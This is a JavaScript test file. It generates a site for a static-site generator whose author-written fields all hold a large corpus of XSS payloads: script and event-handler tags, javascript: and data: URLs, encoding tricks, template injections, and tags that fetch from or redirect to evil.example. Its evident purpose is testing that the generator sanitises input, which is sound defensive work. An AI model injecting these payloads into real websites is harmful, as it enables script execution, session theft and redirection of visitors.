// Texts that try to become code in a page, and a site that holds each of them in every place where an author can write text.

/** What sets the mark by which a run script is known. */
const MARK = 'window.__run=1';

/** Elements and attributes that run something, or fetch something, in one browser or another. */
const ELEMENTS = [
  `<script>${MARK}</script>`,
  `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>${MARK}</scr</script>ipt>`,
  `<script/x>${MARK}</script>`,
  `<script >${MARK}</script >`,
  `<img src=x onerror=${MARK}>`,
  `<img src=x onerror="${MARK}">`,
  `<img/src='x'/onerror='${MARK}'>`,
  `<img src=https://evil.example/pixel.png>`,
  `<image href=x onerror=${MARK}>`,
  `<svg onload=${MARK}>`,
  `<svg><script>${MARK}</script></svg>`,
  `<svg><animate onbegin=${MARK} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:${MARK}>`,
  `<svg><use href="data:image/svg+xml,<svg onload=${MARK}>#x">`,
  `<svg><a href="javascript:${MARK}"><text>x</text></a>`,
  `<svg><style><img src=x onerror=${MARK}></style>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${MARK}>`,
  `<math><mi xlink:href="data:x,<script>${MARK}</script>">`,
  `<math href="javascript:${MARK}">x</math>`,
  `<iframe src="javascript:${MARK}"></iframe>`,
  `<iframe srcdoc="<script>parent.__run=1</script>"></iframe>`,
  `<iframe src=https://evil.example/></iframe>`,
  `<object data="data:text/html,<script>${MARK}</script>"></object>`,
  `<embed src="javascript:${MARK}">`,
  `<base href="https://evil.example/">`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<style>@import "https://evil.example/x.css";</style>`,
  `<style>body{background:url(https://evil.example/x)}</style>`,
  `<form action="javascript:${MARK}"><button>x</button></form>`,
  `<button formaction="javascript:${MARK}">x</button>`,
  `<input autofocus onfocus=${MARK}>`,
  `<input type=image src=x onerror=${MARK}>`,
  `<select autofocus onfocus=${MARK}>`,
  `<textarea autofocus onfocus=${MARK}>`,
  `<video src=x onerror=${MARK}></video>`,
  `<video><source onerror=${MARK}></video>`,
  `<audio src=x onerror=${MARK}></audio>`,
  `<details open ontoggle=${MARK}>x</details>`,
  `<marquee onstart=${MARK}>x</marquee>`,
  `<body onload=${MARK}>`,
  `<body onpageshow=${MARK}>`,
  `<div style="animation-name:x" onanimationstart=${MARK}>x</div>`,
  `<a href="javascript:${MARK}">x</a>`,
  `<a href=javascript:${MARK}>x</a>`,
  `<a href="java&Tab;script:${MARK}">x</a>`,
  `<a href="jav&#x0A;ascript:${MARK}">x</a>`,
  `<a href="&#106;avascript:${MARK}">x</a>`,
  `<a href="data:text/html,<script>${MARK}</script>">x</a>`,
  `<template><script>${MARK}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${MARK}>"></noscript>`,
  `<xmp><img src=x onerror=${MARK}></xmp>`,
  `<plaintext><img src=x onerror=${MARK}>`,
  `<title><img src=x onerror=${MARK}></title>`,
  `<textarea></textarea><img src=x onerror=${MARK}>`,
  `<table><td background=https://evil.example/x>x</table>`,
  `<isindex type=image src=x onerror=${MARK}>`,
  `<keygen autofocus onfocus=${MARK}>`,
  `<x onclick=${MARK} autofocus tabindex=1 onfocus=${MARK}>`,
  `<p id=location name=currentScript>x</p>`,
  `<form id=document><input name=body></form>`,
  `<portal src="javascript:${MARK}"></portal>`,
  `<dialog open onclose=${MARK}><form method=dialog><button autofocus>x</button></form></dialog>`,
];

/** Ways out of the place where a text is written: attributes, elements, comments, templates, data. */
const ENDINGS = [
  '',
  '">',
  "'>",
  '--!>',
  '</title></textarea></style></script>',
  ']>',
];

/** Addresses that are none of http, https, mailto and tel; a site with one of them is not built. */
export const ADDRESSES = [
  `javascript:${MARK}`,
  `JaVaScRiPt:${MARK}`,
  `java&#115;cript:${MARK}`,
  `&#x6A;avascript:${MARK}`,
  `javascript&colon;${MARK}`,
  `\u0001javascript:${MARK}`,
  `vbscript:${MARK}`,
  `data:text/html,<b>${MARK}`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19ydW49MTwvc2NyaXB0Pg==`,
  `blob:https://evil.example/x`,
  `filesystem:https://evil.example/x`,
  `view-source:https://evil.example/`,
  `jar:https://evil.example/x!/y`,
];

/** Texts that are attributes or expressions where an element does not get through. */
const PARTS = [
  `" onfocus=${MARK} autofocus tabindex=1 x="`,
  `' onfocus=${MARK} autofocus tabindex=1 x='`,
  `x onerror=${MARK} src=x`,
  '` onfocus=`' + MARK + '` autofocus',
  `{{ constructor.constructor('${MARK}')() }}`,
  `{% set x = 1 %}{{ x | safe }}`,
  '${' + MARK + '}',
  `<%= ${MARK} %>`,
  `\\u003cimg src=x onerror=${MARK}\\u003e`,
  `&lt;img src=x onerror=${MARK}&gt;`,
  `&#60;img src=x onerror=${MARK}&#62;`,
  `%3Cimg%20src=x%20onerror=${MARK}%3E`,
  `+ADw-script+AD4-${MARK}+ADw-/script+AD4-`,
  `＜img src=x onerror=${MARK}＞`,
  `{"@type":"</script><script>${MARK}</script>"}`,
  `*/${MARK}/*`,
  `;${MARK}//`,
  `expression(${MARK})`,
];

/** All payloads, each once. */
export const PAYLOADS = [...new Set([...ENDINGS.flatMap((end) => ELEMENTS.map((element) => end + element)), ...PARTS])];

/** The places in which each payload stands in `siteOf`. */
export const POSITIONS = [
  'title', 'summary', 'alias', 'tag', 'heading', 'text', 'link label', 'link address', 'title of a link', 'alternative text',
  'code', 'language of code', 'title of a callout', 'table', 'footnote', 'words of a statement', 'verbatim quote', 'correction', 'reply', 'publisher of a source',
];

const yaml = (text) => JSON.stringify(text);
const line = (text) => text.replace(/[\n\r]/g, ' ');

/** A site with an address as a link, with a title, and in angle brackets. */
export function siteOfAddress(address) {
  return {
    'dossier.toml': 'title = "Addresses"\nlanguage = "en"\n',
    'content/a.md': `---\ntitle: A\n---\n\n[one](<${address}>) [two](${address} "x") [three]\n\n[three]: ${address}\n`,
  };
}

/** A site in which a person, a source and a hearing for each payload hold it in every position. */
export function siteOf(payloads) {
  const texts = {
    'dossier.toml': 'title = "Payloads"\ndescription = "Texts that try to become code."\nlanguage = "en"\n',
    'content/sources/paper.md': '---\ntitle: Paper\ntype: article\n---\n',
  };
  payloads.forEach((payload, index) => {
    const id = `n${String(index).padStart(4, '0')}`;
    texts[`content/people/${id}.md`] = person(id, payload);
    texts[`content/hearings/${id}-h.md`] = hearing(id, payload);
    texts[`content/sources/${id}-s.md`] = source(id, payload);
  });
  return texts;
}

function person(id, payload) {
  const address = `https://quay.example/?q=${payload.replace(/&#?\w+;/g, '')}`;
  return `---
id: ${id}
name: ${yaml(`${id} ${payload}`)}
summary: ${yaml(payload)}
aliases: [${yaml(`${id}a ${payload}`)}]
tags: [${yaml(payload)}]
corrections:
  - {date: 2025-10-03, what: ${yaml(payload)}, was: ${yaml(payload)}, now: ${yaml(`${payload} `)}}
replies:
  - {from: ${yaml(payload)}, date: 2025-10-20, text: ${yaml(payload)}}
---

## ${line(payload)}

${line(payload)}

[${line(payload).replace(/[[\]]/g, '')}](<${address.replace(/[<>]/g, '')}> ${JSON.stringify(line(payload).replace(/["\\]/g, ''))})
[plain](${address.replace(/[\s<>()]/g, '')})
<${address.replace(/[\s<>]/g, '')}>

> [!note] ${line(payload)}
> ${line(payload)}

\`\`\`${line(payload).replace(/[`\s]/g, '')}
${line(payload)}
\`\`\`

| a |
|---|
| ${line(payload).replace(/\|/g, '')} |

Here.[^1]

[^1]: ${line(payload)}
`;
}

function hearing(id, payload) {
  return `---
title: ${yaml(`${id} hearing ${payload}`)}
number: ${yaml(payload)}
date: 2025-05-04
---

> [!testimony] [[${id}]] ^s1
> about: [[${id}]]
> status: alleged
> via: [[Paper]]
>
> Said ${line(payload)}
>
> > Said ${line(payload)}
`;
}

function source(id, payload) {
  return `---
title: ${yaml(`${id} source ${payload}`)}
author: [${yaml(payload)}]
---
`;
}
